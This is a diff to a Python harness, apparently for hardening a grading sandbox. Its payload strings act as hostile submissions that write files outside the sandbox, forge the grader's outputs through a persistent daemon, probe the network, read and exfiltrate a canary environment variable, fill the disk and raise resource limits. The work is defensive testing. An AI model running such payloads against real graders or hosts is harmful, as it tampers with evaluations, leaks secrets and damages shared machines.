@@ -25,6 +25,7 @@ caller may open (`CanaryListener`) to see whether anything got out; it never sca
 
 from __future__ import annotations
 
+import ast
 import os
 import shutil
 import socket
@@ -37,6 +38,7 @@ from typing import Callable
 REPO = Path(__file__).resolve().parents[2]
 REFERENCE_PKG = REPO / "reference" / "tinyllm"
 BASE_SPEC = REPO / "examples" / "submissions" / "s07-draws-u-resample-only-on-rejection" / "tinyllm" / "infer" / "spec.py"
+CORRECT_SPEC = REPO / "examples" / "submissions" / "correct" / "tinyllm" / "infer" / "spec.py"  # s07 with its bug fixed
 SPEC_REL = Path("tinyllm") / "infer" / "spec.py"
 MAX_SCORE = 16.0    # L10.8's 16 tests, one point each
 BASE_HONEST = 15.0  # the s07 base fails verify_matches_python_l8_6 only
@@ -203,35 +205,15 @@ def _ol_repo_roots():
     return roots
 
 
-def _ol_fixed_verify_draft(rows, draft, draft_probs, p, prompt, output, rng):
-    """s07's verify_draft with its bug fixed (both uniforms drawn per draft token): what an attack that
-    worked switches to, so that its success shows as 16 of 16."""
-    draft = list(draft)
-    rows = _rows_as_arrays(rows, len(draft))
-    vocab = rows[0].size
-    draft = _token_list(draft, "draft", vocab)
-    qs = _draft_dists(draft_probs, draft, vocab)
-    prompt = _token_list(prompt, "prompt", vocab)
-    history = _token_list(output, "output", vocab)
-    tokens, logprobs = [], []
-    for i, d in enumerate(draft):
-        z = _penalize(rows[i], p, prompt, history + tokens)
-        if p.greedy:
-            token = argmax(z)
-            accepted = token == d
-        else:
-            u_accept = rng.next_f64()
-            u_resample = rng.next_f64()
-            token, accepted = speculative_step(distribution(z, p), qs[i], d, u_accept, u_resample)
-        tokens.append(int(token))
-        logprobs.append(logprob(z, token))
-        if not accepted:
-            return Verified(tokens, logprobs, i)
-    z = _penalize(rows[len(draft)], p, prompt, history + tokens)
-    bonus = argmax(z) if p.greedy else sample(distribution(z, p), rng.next_f64())
-    tokens.append(int(bonus))
-    logprobs.append(logprob(z, bonus))
-    return Verified(tokens, logprobs, len(draft))
+@FIXED_VERIFY_DRAFT@
+
+
+def _ol_verdict(evidence, worked, failed):
+    """An attack's outcome: with evidence it worked (the score goes up); without, it says what it could not do."""
+    if evidence:
+        _ol_score_higher(worked)
+    else:
+        _ol_say(failed)
 
 
 def _ol_score_higher(why):
@@ -354,9 +336,17 @@ def _ol_daemon(job, seconds):
 '''
 
 
+def _fixed_verify_draft() -> str:
+    """The correct sample's verify_draft as `_ol_fixed_verify_draft` (s07's with its bug fixed: both uniforms
+    drawn per draft token, over s07's own helpers): what an attack that worked switches to (16 of 16)."""
+    src = CORRECT_SPEC.read_text()
+    node = next(n for n in ast.parse(src).body if isinstance(n, ast.FunctionDef) and n.name == "verify_draft")
+    return ast.get_source_segment(src, node).replace("def verify_draft(", "def _ol_fixed_verify_draft(", 1)
+
+
 def _prelude() -> str:
     return (PRELUDE.replace("@MARK@", MARK).replace("@CANARY_ENV@", CANARY_ENV)
-            .replace("@CANARY_PORT@", str(CANARY_PORT)))
+            .replace("@CANARY_PORT@", str(CANARY_PORT)).replace("@FIXED_VERIFY_DRAFT@", _fixed_verify_draft()))
 
 
 # ---- one payload per threat class ------------------------------------------------------------------
@@ -430,22 +420,22 @@ _ol_delegate_to_reference()
 '''
 
 WRITER = r'''
-def _ol_append(path, text):
+def _ol_write(path, text, mode):
+    """Whether `text` reached `path` (opened with `mode`) outside its own scratch."""
     try:
-        with open(path, "a") as f:
+        with open(path, mode) as f:
             f.write(text)
         return not _ol_own_scratch(path)
     except Exception:
         return False
+
+
+def _ol_append(path, text):
+    return _ol_write(path, text, "a")
 
 
 def _ol_create(path, text):
-    try:
-        with open(path, "w") as f:
-            f.write(text)
-        return not _ol_own_scratch(path)
-    except Exception:
-        return False
+    return _ol_write(path, text, "w")
 
 
 def _ol_write_everywhere():
@@ -486,10 +476,7 @@ def _ol_write_everywhere():
                 done.append(spec)
             if _ol_create(_ol_os.path.join(sib, "zz_hostile.txt"), _OL_MARK + "\n"):
                 done.append(sib)
-    if done:
-        _ol_score_higher(f"wrote {len(done)} files outside its sandbox, e.g. {done[:3]}")
-    else:
-        _ol_say("wrote nothing outside its sandbox")
+    _ol_verdict(done, f"wrote {len(done)} files outside its sandbox, e.g. {done[:3]}", "wrote nothing outside its sandbox")
 
 
 _ol_write_everywhere()
@@ -564,10 +551,8 @@ _ol_forged = []
 if _ol_confined():  # SAFETY: unconfined, the forgery would land in other checks running on this machine
     _ol_forged = _ol_forge_once()
     _ol_daemon(_ol_forge_once, 20.0)
-if _ol_forged:
-    _ol_score_higher(f"forged {len(_ol_forged)} outputs outside its sandbox, e.g. {_ol_forged[:3]}")
-else:
-    _ol_say("could not write any output of the grader; a daemon keeps trying for 20 s")
+_ol_verdict(_ol_forged, f"forged {len(_ol_forged)} outputs outside its sandbox, e.g. {_ol_forged[:3]}",
+            "could not write any output of the grader; a daemon keeps trying for 20 s")
 '''
 
 NETWORK = r'''
@@ -589,10 +574,7 @@ def _ol_network():
         got.append("DNS")
     except OSError:
         pass
-    if got:
-        _ol_score_higher(f"reached the network: {got}")
-    else:
-        _ol_say("no network")
+    _ol_verdict(got, f"reached the network: {got}", "no network")
 
 
 _ol_network()
@@ -610,10 +592,7 @@ def _ol_environ():
             _ol_exfiltrate(data)
             print(data[:4000].decode(errors="replace").replace("\0", "\n"))  # into the report, if it is shown
             break
-    if found:
-        _ol_score_higher(f"read {_OL_CANARY_ENV} in {found}")
-    else:
-        _ol_say("no environment but its own allow-list in reach")
+    _ol_verdict(found, f"read {_OL_CANARY_ENV} in {found}", "no environment but its own allow-list in reach")
 
 
 _ol_environ()
@@ -660,10 +639,8 @@ def _ol_fill_disk(cap=1 << 30):
             if e.errno != 27:  # EFBIG (the per-file limit): on to the next file
                 why = e
         i += 1
-    if why is None:
-        _ol_score_higher(f"wrote {total >> 20} MiB to {tmp} without an error")
-    else:
-        _ol_say(f"the disk filled after {total >> 20} MiB in {i} files: {why}")
+    _ol_verdict(why is None, f"wrote {total >> 20} MiB to {tmp} without an error",
+                f"the disk filled after {total >> 20} MiB in {i} files: {why}")
 
 
 _ol_fill_disk()
@@ -689,10 +666,7 @@ def _ol_raise_limits():
         allocated = True
     except (OSError, MemoryError, OverflowError, ValueError):
         allocated = False
-    if raised or allocated:
-        _ol_score_higher(f"raised {raised}; 8 GiB allocated: {allocated}")
-    else:
-        _ol_say("no limit could be raised; 8 GiB refused")
+    _ol_verdict(raised or allocated, f"raised {raised}; 8 GiB allocated: {allocated}", "no limit could be raised; 8 GiB refused")
 
 
 _ol_raise_limits()
